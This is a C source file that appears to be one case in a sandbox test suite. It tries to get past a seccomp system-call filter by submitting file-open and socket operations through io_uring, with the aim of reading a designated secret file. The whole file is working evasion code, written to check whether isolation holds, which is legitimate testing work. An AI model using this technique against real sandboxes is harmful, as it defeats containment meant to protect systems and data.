// id = "net-uring"
// title = "open a file and a socket through io_uring, past the system call filter"
// guarantee = "syscalls"
// layers = ["seccomp"]
// source = ["isolate 2.6", "measured: io_uring bypasses seccomp where allowed"]
// needs = ["secret-file"]
// bare = "user"
#include "attack.h"
#include <linux/io_uring.h>
#include <sys/mman.h>
#include <sys/socket.h>

int main(int argc, char **argv) {
    attack_start(argc, argv);
    struct io_uring_params params = {0};
    int ring = syscall(SYS_io_uring_setup, 4, &params);
    tried("io_uring_register", syscall(SYS_io_uring_register, -1, 0x80000000u | 31, 0, 0));
    if (!tried("io_uring_setup", ring)) attack_finish();
    size_t size = params.sq_off.array + params.sq_entries * 4;
    size_t seen = params.cq_off.cqes + params.cq_entries * sizeof(struct io_uring_cqe);
    if (seen > size) size = seen;
    char *rings = (char *)mmap(0, size, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQ_RING);
    struct io_uring_sqe *entries = (struct io_uring_sqe *)mmap(
        0, params.sq_entries * sizeof *entries, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQES);
    if (rings == MAP_FAILED || entries == MAP_FAILED || !(params.features & IORING_FEAT_SINGLE_MMAP)) attack_finish();
    memset(entries, 0, 2 * sizeof *entries);
    entries[0].opcode = IORING_OP_OPENAT;
    entries[0].fd = AT_FDCWD;
    entries[0].addr = (unsigned long)prop("secret_path");
    entries[0].open_flags = O_RDONLY;
    entries[0].user_data = 1;
    entries[1].opcode = 45; /* IORING_OP_SOCKET, Linux 5.19 */
    entries[1].fd = AF_INET;
    entries[1].off = SOCK_STREAM;
    entries[1].user_data = 2;
    unsigned *array = (unsigned *)(rings + params.sq_off.array);
    array[0] = 0, array[1] = 1;
    __atomic_store_n((unsigned *)(rings + params.sq_off.tail), 2, __ATOMIC_RELEASE);
    tried("io_uring_enter", syscall(SYS_io_uring_enter, ring, 2, 2, IORING_ENTER_GETEVENTS, 0, 0));
    struct io_uring_cqe *done = (struct io_uring_cqe *)(rings + params.cq_off.cqes);
    for (int i = 0; i < 2; i++) {
        if (done[i].res < 0) continue;
        if (done[i].user_data == 1) attack_show(done[i].res);
        tried(done[i].user_data == 1 ? "file through the ring" : "socket through the ring", done[i].res);
    }
    attack_finish();
}
